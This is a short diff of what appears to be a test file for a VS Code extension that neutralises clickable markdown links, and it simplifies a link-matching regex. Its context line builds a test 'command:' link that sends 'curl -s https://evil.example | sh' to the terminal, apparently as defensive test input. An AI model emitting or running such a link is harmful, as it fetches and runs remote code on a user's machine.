@@ -7,7 +7,7 @@ import { inertText } from '../../../src/extension/inert-text';
  * is rendered as a link, and a `command:` one runs its command with its arguments when clicked.
  * (VS Code's has the g flag, for its loop over every match.)
  */
-const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/i;
+const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
 
 const sendSequence = `command:workbench.action.terminal.sendSequence?${encodeURIComponent(JSON.stringify({ text: 'curl -s https://evil.example | sh\n' }))}`;
 
